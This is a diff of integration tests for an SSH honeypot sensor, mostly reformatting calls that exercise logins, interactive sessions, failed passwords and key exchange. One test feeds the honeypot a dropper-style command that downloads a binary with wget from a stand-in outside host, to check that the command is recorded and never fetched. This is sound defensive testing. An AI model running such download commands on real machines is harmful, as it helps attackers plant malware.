@@ -7,7 +7,6 @@ from pathlib import Path
 
 import pytest
 
-from phantomnet.detectors.base import DetectorConfig
 from phantomnet.detectors.brute_force import BruteForce, BruteForceConfig
 from tests.conftest import require_tool
 from tests.integration.sensors.ssh.conftest import SSH_OPTS, Running, askpass, run, ssh_exec
@@ -46,8 +45,18 @@ async def test_exec_records_login_command_and_recording(ssh: Running) -> None:
 
 async def test_interactive_pty_session(ssh: Running) -> None:
     script = b"cd /tmp\necho $((6*7)) > answer\ncat answer\nls /nonexistent\nexit\n"
-    rc, out, _ = await run("sshpass", "-p", "password", "ssh", *SSH_OPTS, "-tt", "-p",
-                           str(ssh.port), "root@127.0.0.1", stdin=script)  # fmt: skip
+    rc, out, _ = await run(
+        "sshpass",
+        "-p",
+        "password",
+        "ssh",
+        *SSH_OPTS,
+        "-tt",
+        "-p",
+        str(ssh.port),
+        "root@127.0.0.1",
+        stdin=script,
+    )
     assert rc == 2  # like bash, a bare ``exit`` returns the last status (ls failed: 2)
     hostname = ssh.sensor.persona.hostname
     assert f"root@{hostname}:~# " in out and f"root@{hostname}:/tmp# " in out
@@ -56,7 +65,13 @@ async def test_interactive_pty_session(ssh: Running) -> None:
     assert "logout" in out
     await ssh.captured.wait_for(lambda c: len(c.of("command.input")) >= 5)
     commands = [c.command for c in ssh.captured.of("command.input")]
-    assert commands == ["cd /tmp", "echo $((6*7)) > answer", "cat answer", "ls /nonexistent", "exit"]
+    assert commands == [
+        "cd /tmp",
+        "echo $((6*7)) > answer",
+        "cat answer",
+        "ls /nonexistent",
+        "exit",
+    ]
 
 
 async def test_changes_persist_across_connections_per_source(ssh: Running) -> None:
@@ -71,9 +86,19 @@ async def test_changes_persist_across_connections_per_source(ssh: Running) -> No
 
 
 async def test_wrong_passwords_then_disconnect_like_openssh(ssh: Running, tmp_path: Path) -> None:
-    rc, _, err = await run("ssh", *SSH_OPTS, "-o", "NumberOfPasswordPrompts=10", "-o",
-                           "PreferredAuthentications=password", "-p", str(ssh.port),
-                           "root@127.0.0.1", "id", env=askpass(tmp_path, "wrong-pw"))  # fmt: skip
+    rc, _, err = await run(
+        "ssh",
+        *SSH_OPTS,
+        "-o",
+        "NumberOfPasswordPrompts=10",
+        "-o",
+        "PreferredAuthentications=password",
+        "-p",
+        str(ssh.port),
+        "root@127.0.0.1",
+        "id",
+        env=askpass(tmp_path, "wrong-pw"),
+    )
     assert rc != 0
     assert "Too many authentication failures" in err
     await ssh.captured.wait_for(lambda c: bool(c.of("connection.closed")))
@@ -88,8 +113,16 @@ async def test_wrong_passwords_then_disconnect_like_openssh(ssh: Running, tmp_pa
 
 
 async def test_sntrup761_hybrid_key_exchange_completes(ssh: Running) -> None:
-    rc, out, err = await run(*ssh_exec(ssh.port, "123456", "echo pq-ok", "root", "-o",
-                                       "KexAlgorithms=sntrup761x25519-sha512@openssh.com"))  # fmt: skip
+    rc, out, err = await run(
+        *ssh_exec(
+            ssh.port,
+            "123456",
+            "echo pq-ok",
+            "root",
+            "-o",
+            "KexAlgorithms=sntrup761x25519-sha512@openssh.com",
+        )
+    )
     assert rc == 0, err
     assert out == "pq-ok\n"
 
@@ -105,8 +138,9 @@ async def test_honeytoken_credential_raises_event(ssh: Running) -> None:
 
 
 async def test_wget_is_recorded_never_fetched(ssh: Running) -> None:
-    rc, out, err = await run(*ssh_exec(ssh.port, "123456",
-                                       "wget http://203.0.113.9/bins/x86 -O /tmp/b; ls /tmp/b"))  # fmt: skip
+    rc, out, err = await run(
+        *ssh_exec(ssh.port, "123456", "wget http://203.0.113.9/bins/x86 -O /tmp/b; ls /tmp/b")
+    )
     assert rc == 0 and "/tmp/b" in out
     assert "Connecting to 203.0.113.9:80... connected." in err or "203.0.113.9" in err
     await ssh.captured.wait_for(lambda c: bool(c.of("file.download")))
